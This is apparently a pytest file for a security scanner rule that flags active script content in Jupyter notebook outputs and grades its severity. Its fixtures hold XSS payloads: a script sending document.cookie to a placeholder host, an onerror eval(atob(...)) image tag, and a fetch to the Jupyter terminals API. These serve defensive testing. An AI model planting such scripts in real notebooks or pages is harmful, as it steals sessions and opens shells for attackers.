"""Active content of notebooks."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

import pytest

from tests.checks.examples import outcomes
from violet.domain import Severity

if TYPE_CHECKING:
    from pathlib import Path

RULE = "artifact/notebook-output"


def notebook(directory: Path, data: dict[str, Any]) -> Path:
    path = directory / "demo.ipynb"
    output = {"output_type": "display_data", "data": data, "metadata": {}}
    cell = {"cell_type": "code", "source": "1", "metadata": {}, "outputs": [output], "execution_count": 1}
    path.write_text(json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}))
    return path


def positive(directory: Path) -> Path:
    return notebook(directory, {"text/html": ["<script>fetch('/api/", "terminals')</script>"]})


def benign(directory: Path) -> Path:
    return notebook(directory, {"text/html": ["<table><tr><td>1</td></tr></table>"], "text/plain": ["1"]})


@pytest.mark.parametrize(
    ("data", "severity"),
    [
        ({"text/html": "<script>fetch('http://x/?' + document.cookie)</script>"}, Severity.HIGH),
        ({"text/html": "<img src=x onerror=\"eval(atob('YQ=='))\">"}, Severity.MEDIUM),
        ({"application/javascript": "alert(1)"}, Severity.MEDIUM),
        ({"text/html": "<script>document.getElementById('t').style.color = 'red'</script>"}, Severity.LOW),
    ],
)
def test_severity_follows_what_the_script_reaches(tmp_path: Path, data: dict[str, Any], severity: Severity) -> None:
    assert {f.severity for f in outcomes(notebook(tmp_path, data))} == {severity}


def test_the_diagram_of_an_estimator_is_low(tmp_path: Path) -> None:
    from sklearn.linear_model import LogisticRegression

    page = LogisticRegression()._repr_html_()
    assert all(f.severity <= Severity.LOW for f in outcomes(notebook(tmp_path, {"text/html": page})))
